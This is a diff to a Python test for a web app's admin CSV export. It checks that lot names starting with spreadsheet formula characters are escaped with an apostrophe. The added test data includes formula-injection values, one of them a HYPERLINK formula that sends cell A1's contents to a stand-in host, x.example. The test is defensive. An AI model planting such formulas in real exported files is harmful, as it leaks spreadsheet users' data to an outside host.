@@ -200,9 +200,12 @@ def test_the_csv_equals_the_json_answer(client, auth, carol, ask, busy):
 
 
 def test_a_name_that_a_spreadsheet_would_run_stays_text(client, auth, carol, busy):
-    world.make_lot("=HYPERLINK(1)", "UTC", 1, utc("2026-02-20T00:00"))
+    behind = 'Süd;=HYPERLINK("http://x.example/?"&A1;"open")'
+    for name in ("=HYPERLINK(1)", behind, "Ost\t@SUM(A1)"):
+        world.make_lot(name, "UTC", 1, utc("2026-02-20T00:00"))
     lots = table(client.get(f"/api/stats/admin.csv?{WEEK}&table=lots", headers=auth(carol)))
-    assert "'=HYPERLINK(1)" in [lot["name"] for lot in lots]
+    safe = {"'=HYPERLINK(1)", behind.replace(";=", ";'="), "Ost\t'@SUM(A1)"}
+    assert safe <= {lot["name"] for lot in lots}
 
 
 def test_a_users_month(client, auth, alice, bob, busy):
